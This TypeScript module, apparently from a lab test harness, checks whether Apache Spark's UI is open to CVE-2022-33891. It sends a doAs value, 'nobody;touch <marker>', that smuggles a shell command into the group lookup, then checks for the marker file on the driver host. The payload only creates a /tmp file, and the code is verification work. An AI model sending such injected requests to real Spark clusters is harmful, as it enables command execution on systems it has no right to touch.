// CVE-2022-33891: with spark.acls.enable, the UI's HttpSecurityFilter hands a `?doAs=` value to the group lookup,
// which Spark up to 3.2.1 runs as `bash -c "id -Gn " + user`. The payload appends a command that creates a marker
// file; the request goes out from the ResourceManager's container (YARN's AmIpFilter lets only the RM's proxy host
// through to the driver's UI), and the marker is looked for on the driver's host, the gateway.
import { randomBytes } from "node:crypto";
import { GATEWAY_NODE, RM_NODE } from "../cluster/cluster-config.ts";
import type { StartedCluster } from "../cluster/started-cluster.ts";
import { UI_PORT } from "./ui-probe.ts";

/** What the UI answered to one request. */
export interface DoAsAnswer {
  url: string;
  /** curl's %{http_code}: "000" when no HTTP answer came. */
  httpCode: string;
  redirect: string;
  /** The first bytes of the body (Spark's 403 page names the user it refused). */
  body: string;
}

/** The marker file on the driver's host after the request: there (with its owner and mode) or not. */
export type MarkerState = { exists: true; owner: string; uid: number; mode: string } | { exists: false };

/** A unique marker path under /tmp for one probe. */
export function newMarkerPath(): string {
  return `/tmp/shieldlab-doas-${randomBytes(6).toString("hex")}`;
}

/** The doAs value: a user name that ends the `id -Gn` command and runs `touch <marker>` after it. */
export function doAsPayload(marker: string): string {
  if (!/^\/tmp\/[A-Za-z0-9._-]+$/.test(marker)) throw new Error(`marker must be a plain file under /tmp, got ${JSON.stringify(marker)}`);
  return `nobody;touch ${marker}`;
}

/** The UI URL with the payload as its doAs parameter (percent-encoded: no shell quoting can break it). */
export function doAsUrl(host: string, path: string, payload?: string): string {
  const base = `http://${host}:${UI_PORT}${path}`;
  return payload === undefined ? base : `${base}?doAs=${encodeURIComponent(payload)}`;
}

/** Parses `stat -c '%U %u %a'` output, or the absence line the probe prints. */
export function parseMarkerStat(stdout: string): MarkerState {
  const m = /^(\S+) (\d+) ([0-7]{3,4})$/m.exec(stdout.trim());
  return m ? { exists: true, owner: m[1]!, uid: Number(m[2]), mode: m[3]! } : { exists: false };
}

/** GET `url` from inside the RM's container (the AmIpFilter's proxy host); never throws for an HTTP outcome. */
export async function getFromRm(cluster: StartedCluster, url: string): Promise<DoAsAnswer> {
  if (!/^http:\/\/[A-Za-z0-9.-]+:\d+\/[A-Za-z0-9/._~%=?&-]*$/.test(url)) throw new Error(`refusing to pass an unencoded URL to the shell: ${url}`);
  const r = await cluster.exec(RM_NODE, ["bash", "-c", `rm -f /tmp/doas-body; curl -s --max-time 15 -o /tmp/doas-body -w '%{http_code} %{redirect_url}' '${url}'; echo; head -c 300 /tmp/doas-body 2>/dev/null`]);
  const [status = "", ...rest] = r.stdout.split("\n");
  const [httpCode = "000", redirect = ""] = status.trim().split(" ");
  return { url, httpCode, redirect, body: rest.join("\n").slice(0, 300) };
}

/** Looks for the marker on the driver's host (the gateway). */
export async function markerOnGateway(cluster: StartedCluster, marker: string): Promise<MarkerState> {
  const r = await cluster.exec(GATEWAY_NODE, ["bash", "-c", `stat -c '%U %u %a' '${marker}' 2>/dev/null || echo absent`]);
  return parseMarkerStat(r.stdout);
}

/** The gateway's host name (the client-mode driver's UI host). */
export function driverUiHost(cluster: StartedCluster): string {
  return cluster.node(GATEWAY_NODE).host;
}
